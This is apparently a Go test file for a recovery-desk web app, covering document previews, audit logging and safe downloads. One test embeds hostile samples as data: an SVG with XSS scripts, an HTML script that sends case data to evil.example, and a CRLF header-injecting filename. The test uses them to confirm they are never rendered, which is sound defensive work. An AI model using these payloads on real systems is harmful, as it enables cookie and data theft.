package web

import (
	"bytes"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/recoverybot/recoverybot"
	"github.com/recoverybot/recoverybot/desk"
)

func actions(f *fixture, t *testing.T, ref string) []string {
	var out []string
	for _, e := range f.events(t, ref) {
		out = append(out, e.Actor+":"+e.Action)
	}
	return out
}

func count(list []string, s string) int {
	n := 0
	for _, x := range list {
		if x == s {
			n++
		}
	}
	return n
}

func TestPreviewOfAJPEG(t *testing.T) {
	f := newFixture(t, nil)
	s := f.openCase(t, desk.OpenRequest{ProfileID: "p-ind", Kind: recoverybot.KindTOTPLockout}, identityJPEG())
	a := f.login(t, "alice", alicePassword)
	page := f.get(t, a, "/cases/"+s.Ref)
	src := "/cases/" + s.Ref + "/documents/" + sha(jpeg) + "/preview/1"
	if !strings.Contains(page.Body.String(), `<img src="`+src+`"`) {
		t.Fatalf("the case page shows no preview of the JPEG:\n%s", page.Body)
	}
	w := f.get(t, a, src)
	if w.Code != http.StatusOK || w.Header().Get("Content-Type") != "image/png" || !bytes.Equal(w.Body.Bytes(), pngMagic) {
		t.Fatalf("preview: %d %s %q", w.Code, w.Header().Get("Content-Type"), w.Body.Bytes())
	}
	if bytes.Contains(w.Body.Bytes(), jpeg) {
		t.Error("the preview holds the original bytes")
	}
	if cd := w.Header().Get("Content-Disposition"); cd != "inline" {
		t.Errorf("Content-Disposition %q", cd)
	}
	if got := count(actions(f, t, s.Ref), "alice:document_viewed"); got != 1 {
		t.Errorf("%d document_viewed events, want 1", got)
	}
	if w := f.get(t, a, "/cases/"+s.Ref+"/documents/"+sha(jpeg)+"/preview/2"); w.Code != http.StatusNotFound {
		t.Errorf("a page past the last: %d", w.Code)
	}
	if w := f.get(t, a, "/cases/"+s.Ref+"/documents/"+sha(jpeg)+"/preview/x"); w.Code != http.StatusNotFound {
		t.Errorf("page x: %d", w.Code)
	}
}

func TestPDFPages(t *testing.T) {
	f := newFixture(t, nil)
	f.preview.pages = 3
	pdf := []byte("%PDF-1.7 a Kbis")
	s := f.openCase(t, desk.OpenRequest{ProfileID: "p-co", Kind: recoverybot.KindIPLockout}, map[*recoverybot.Document][]byte{
		{Type: recoverybot.DocCompanyRegistration, Filename: "kbis.pdf", MediaType: "application/pdf"}: pdf,
	})
	a := f.login(t, "alice", alicePassword)
	w := f.get(t, a, "/cases/"+s.Ref+"/documents/"+sha(pdf))
	if w.Code != http.StatusOK {
		t.Fatalf("document page: %d", w.Code)
	}
	for _, n := range []string{"1", "2", "3"} {
		if !strings.Contains(w.Body.String(), "/preview/"+n+`"`) {
			t.Errorf("page %s not shown", n)
		}
		if r := f.get(t, a, "/cases/"+s.Ref+"/documents/"+sha(pdf)+"/preview/"+n); r.Code != http.StatusOK || r.Header().Get("Content-Type") != "image/png" {
			t.Errorf("preview page %s: %d", n, r.Code)
		}
	}
	// The document page and its three images: one render, and each
	// view still audited.
	if c := f.preview.Calls(); c != 1 {
		t.Errorf("%d renders for three pages, want 1", c)
	}
	if got := count(actions(f, t, s.Ref), "alice:document_viewed"); got != 4 {
		t.Errorf("%d document_viewed events, want 4", got)
	}
	// A few minutes later the document is rendered again.
	f.clock.Advance(10 * time.Minute)
	f.get(t, a, "/cases/"+s.Ref+"/documents/"+sha(pdf)+"/preview/1")
	if c := f.preview.Calls(); c != 2 {
		t.Errorf("%d renders after the cache's lifetime, want 2", c)
	}
}

// TestHostileDocuments: an SVG or an HTML file the customer sent never
// reaches the browser as such: no preview is asked for, and the download
// is an attachment of no type.
func TestHostileDocuments(t *testing.T) {
	f := newFixture(t, nil)
	svg := []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>alert(1)</script></svg>`)
	htm := []byte(`<html><script>fetch('/cases').then(r=>r.text()).then(t=>location='//evil.example/?'+t)</script></html>`)
	s := f.openCase(t, desk.OpenRequest{ProfileID: "p-co", Kind: recoverybot.KindTOTPLockout}, map[*recoverybot.Document][]byte{
		{Type: recoverybot.DocIdentity, Filename: "id.svg", MediaType: "image/svg+xml"}:                         svg,
		{Type: recoverybot.DocCompanyRegistration, Filename: "kbis.html\"; x=\r\n.exe", MediaType: "text/html"}: htm,
	})
	a := f.login(t, "alice", alicePassword)
	page := f.get(t, a, "/cases/"+s.Ref).Body.String()
	if strings.Contains(page, "/preview/") {
		t.Error("the case page asks for a preview of a hostile document")
	}
	if strings.Count(page, "No preview; download the original.")+strings.Count(page, "Pas d&#39;aperçu ; téléchargez l&#39;original.") != 2 {
		t.Errorf("the case page does not say there is no preview")
	}
	if strings.Contains(page, "<script>alert") || strings.Contains(page, "onload=") {
		t.Error("the case page holds the document's markup")
	}
	for _, data := range [][]byte{svg, htm} {
		base := "/cases/" + s.Ref + "/documents/" + sha(data)
		w := f.get(t, a, base+"/preview/1")
		if w.Code != http.StatusNotFound || strings.HasPrefix(w.Header().Get("Content-Type"), "image/") || bytes.Contains(w.Body.Bytes(), data) {
			t.Errorf("preview of a hostile document: %d %s", w.Code, w.Header().Get("Content-Type"))
		}
		if w := f.get(t, a, base); bytes.Contains(w.Body.Bytes(), data) || strings.Contains(w.Body.String(), "<img") {
			t.Errorf("document page of a hostile document shows it")
		}
		d := f.post(t, a, base+"/download", nil)
		h := d.Header()
		if d.Code != http.StatusOK || h.Get("Content-Type") != "application/octet-stream" || h.Get("X-Content-Type-Options") != "nosniff" ||
			h.Get("Cache-Control") != "no-store" || h.Get("Content-Security-Policy") != "default-src 'none'; sandbox" ||
			!strings.HasPrefix(h.Get("Content-Disposition"), "attachment;") || !bytes.Equal(d.Body.Bytes(), data) {
			t.Errorf("download: %d %v", d.Code, h)
		}
		if cd := h.Get("Content-Disposition"); strings.ContainsAny(cd, "\r\n") || strings.Contains(cd, `"; x=`) {
			t.Errorf("Content-Disposition %q lets the filename speak", cd)
		}
	}
	if f.preview.Calls() != 0 {
		t.Errorf("the previewer was given a hostile document")
	}
	if got := count(actions(f, t, s.Ref), "alice:document_downloaded"); got != 2 {
		t.Errorf("%d document_downloaded events, want 2", got)
	}
	// A download by GET does not exist.
	if w := f.get(t, a, "/cases/"+s.Ref+"/documents/"+sha(svg)+"/download"); w.Code == http.StatusOK && bytes.Contains(w.Body.Bytes(), svg) {
		t.Error("GET download served the bytes")
	}
}

func TestUnknownDocument(t *testing.T) {
	f := newFixture(t, nil)
	s := f.openCase(t, desk.OpenRequest{ProfileID: "p-ind", Kind: recoverybot.KindTOTPLockout}, nil)
	a := f.login(t, "alice", alicePassword)
	nope := strings.Repeat("0", 64)
	if w := f.get(t, a, "/cases/"+s.Ref+"/documents/"+nope+"/preview/1"); w.Code != http.StatusNotFound {
		t.Errorf("preview of no document: %d", w.Code)
	}
	if w := f.post(t, a, "/cases/"+s.Ref+"/documents/"+nope+"/download", nil); w.Code != http.StatusSeeOther {
		t.Errorf("download of no document: %d", w.Code)
	}
	if w := f.get(t, a, "/cases/RC-AAAAAA"); w.Code != http.StatusNotFound {
		t.Errorf("no such case: %d", w.Code)
	}
}
